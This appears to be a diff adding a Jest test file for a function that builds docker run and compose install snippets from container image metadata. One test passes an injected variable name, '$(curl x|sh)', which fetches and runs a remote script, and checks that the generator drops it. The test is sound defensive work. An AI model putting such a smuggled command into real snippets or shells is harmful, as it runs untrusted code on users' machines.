@@ -0,0 +1,105 @@
+import { AppImageDetails } from "../../../src/domain/models/AppDetail";
+import {
+  buildInstallPlan,
+  getServiceName,
+} from "../../../src/domain/services/installSnippets";
+
+const makeImage = (overrides: Partial<AppImageDetails> = {}): AppImageDetails => ({
+  reference: "acme/postgres",
+  tag: "16.2",
+  digest: "sha256:abc",
+  platform: null,
+  labels: {},
+  exposedPorts: ["5432/tcp"],
+  volumes: ["/var/lib/postgresql/data"],
+  env: { PGDATA: "/var/lib/postgresql/data", POSTGRES_PASSWORD: "" },
+  entrypoint: [],
+  cmd: [],
+  compressedSize: 0,
+  ...overrides,
+});
+
+describe("buildInstallPlan", () => {
+  it("should flag required env variables and generate named volumes", () => {
+    const plan = buildInstallPlan("acme/postgres", makeImage());
+
+    expect(plan.env).toEqual([
+      { name: "PGDATA", defaultValue: "/var/lib/postgresql/data", required: false },
+      { name: "POSTGRES_PASSWORD", defaultValue: undefined, required: true },
+    ]);
+    expect(plan.volumes).toEqual([
+      { name: "postgres-var-lib-postgresql-data", mountPath: "/var/lib/postgresql/data" },
+    ]);
+    expect(plan.dockerRun).toBe(
+      [
+        "docker run -d",
+        "--name postgres",
+        "--restart unless-stopped",
+        "-p 5432:5432/tcp",
+        "-e POSTGRES_PASSWORD",
+        "-v postgres-var-lib-postgresql-data:/var/lib/postgresql/data",
+        "acme/postgres:16.2",
+      ].join(" \\\n  ")
+    );
+  });
+
+  it("should generate a compose service with required variables enforced", () => {
+    const plan = buildInstallPlan("acme/postgres", makeImage());
+
+    expect(plan.compose).toBe(
+      [
+        "services:",
+        "  postgres:",
+        '    image: "acme/postgres:16.2"',
+        "    restart: unless-stopped",
+        "    ports:",
+        '      - "5432:5432/tcp"',
+        "    environment:",
+        '      POSTGRES_PASSWORD: "${POSTGRES_PASSWORD:?POSTGRES_PASSWORD is required}"',
+        "    volumes:",
+        '      - "postgres-var-lib-postgresql-data:/var/lib/postgresql/data"',
+        "volumes:",
+        "  postgres-var-lib-postgresql-data: {}",
+        "",
+      ].join("\n")
+    );
+  });
+
+  it("should apply install hint labels and report invalid ones", () => {
+    const plan = buildInstallPlan(
+      "acme/postgres",
+      makeImage({
+        labels: {
+          "com.app-store.ports": "15432:5432",
+          "com.app-store.required-env": "POSTGRES_USER, not valid",
+          "com.app-store.min-memory": "512Mi",
+        },
+      })
+    );
+
+    expect(plan.ports).toEqual([{ hostPort: 15432, containerPort: 5432, protocol: "tcp" }]);
+    expect(plan.env.filter((variable) => variable.required)).toHaveLength(1);
+    expect(plan.warnings).toHaveLength(1);
+    expect(plan.dockerRun).toContain("--memory-reservation 512m");
+    expect(plan.compose).toContain("memory: 512M");
+  });
+
+  it("should leave out variables whose names would inject into the snippets", () => {
+    const plan = buildInstallPlan(
+      "acme/postgres",
+      makeImage({ env: { "$(curl x|sh)": "", "a: b": "c", POSTGRES_PASSWORD: "" } })
+    );
+
+    expect(plan.env.map((variable) => variable.name)).toEqual(["POSTGRES_PASSWORD"]);
+    expect(plan.dockerRun).not.toContain("curl");
+    expect(plan.compose).not.toContain("a: b");
+    expect(plan.warnings).toEqual([
+      'Left out environment variables with invalid names: "$(curl x|sh)", "a: b".',
+    ]);
+  });
+
+  it("should derive service names from the last location segment", () => {
+    expect(getServiceName("acme/My_App")).toBe("my-app");
+    expect(getServiceName("___")).toBe("app");
+  });
+});